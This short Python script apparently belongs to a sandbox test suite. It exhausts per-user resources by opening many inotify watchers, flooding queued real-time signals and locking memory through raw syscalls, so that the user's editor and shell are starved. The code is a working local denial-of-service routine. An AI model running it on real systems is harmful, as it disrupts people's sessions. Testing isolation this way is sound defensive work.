# Uses up what the user has only so much of, so that the editor and the shell outside have none left.
# outside: no
from attack import *
import resource, signal

resource.setrlimit(resource.RLIMIT_NOFILE, (min(4096, resource.getrlimit(resource.RLIMIT_NOFILE)[1]),) * 2)


def watchers():
    made = []
    while len(made) < 100:
        descriptor = call(294, 0)
        if descriptor < 0:
            return False
        made.append(descriptor)
    return True


def signals():
    signal.pthread_sigmask(signal.SIG_BLOCK, [40])
    return all(call(129, os.getpid(), 40, bytes([40, 0, 0, 0, 0, 0, 0, 0, 255, 255, 255, 255] + [0] * 116)) == 0
               for _ in range(20_000))


attempt("watchers of files", watchers)
attempt("waiting signals", signals)
attempt("locked memory", lambda: call(149, ctypes.addressof(ctypes.create_string_buffer(8 << 20)), 8 << 20) == 0)
verdict()
